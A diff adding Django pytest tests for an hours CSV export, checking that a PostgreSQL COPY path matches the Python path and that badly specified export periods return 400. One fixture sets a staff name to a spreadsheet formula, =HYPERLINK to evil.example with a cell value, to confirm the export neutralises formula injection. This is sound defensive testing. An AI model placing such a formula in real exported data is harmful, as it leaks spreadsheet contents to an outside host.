@@ -10,6 +10,7 @@ from decimal import Decimal
 import pytest
 from django.contrib.admin.sites import site
 from django.core.management import call_command
+from django.db import connection
 from django.test import RequestFactory
 from django.urls import reverse
 from django.utils import timezone
@@ -18,7 +19,8 @@ from pd import hours, services
 from pd.models import Attendance, CheckinMode, HoursWindow, PDSession, StaffHours
 from pd.selectors import reports
 from pd.tasks import _today_in, move_hours_windows
-from schools.models import Position, StaffMember
+from schools.exports import column_values, csv_response, queryset_csv_response
+from schools.models import Position, School, StaffMember
 from tests.factories import AttendanceFactory, PDSessionFactory, StaffMemberFactory
 
 pytestmark = pytest.mark.django_db
@@ -220,3 +222,38 @@ def test_every_write_of_attendance_in_the_services_keeps_the_hours():
         "checkin_with_code",
     }
     assert not missing, missing
+
+
+@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
+@pytest.mark.parametrize("since_days", [None, 45])  # kept, then summed directly
+def test_the_hours_csv_written_by_copy_is_the_python_paths(district, kept, people, since_days):
+    people["ana"].full_name = '=HYPERLINK("http://evil.example/?"&A1)'
+    people["ana"].save()
+    people["cy"].full_name = 'Cy "the coach", Niño\nsecond line'
+    people["cy"].save()
+    since = timezone.localdate() - timedelta(days=since_days) if since_days else None
+    scope = reports.report_scope(
+        schools=School.objects.filter(district=district),
+        sessions=PDSession.objects.all(),
+        since=since,
+    )
+    assert (scope.kept_since is None) == bool(since_days)
+    filename, columns, rows = reports.hours_export(scope)
+    by_copy = b"".join(queryset_csv_response(filename, columns, rows).streaming_content)
+    header = [c.header for c in columns]
+    by_python = b"".join(
+        csv_response(filename, header, column_values(rows, columns)).streaming_content
+    )
+    assert by_copy == by_python
+    assert b"'=HYPERLINK" in by_copy
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [{"since": "not a date"}, {"school": "999999"}, {"since": "2026-02-01", "until": "2026-01-01"}],
+)
+def test_an_export_whose_period_was_not_understood_sends_nothing(login, coach, maple, bad):
+    response = login(coach).get(reverse("pd:reports"), {"export": "hours", **bad})
+    assert response.status_code == 400
+    assert not response.streaming
+    assert b"Nothing was exported" in response.content
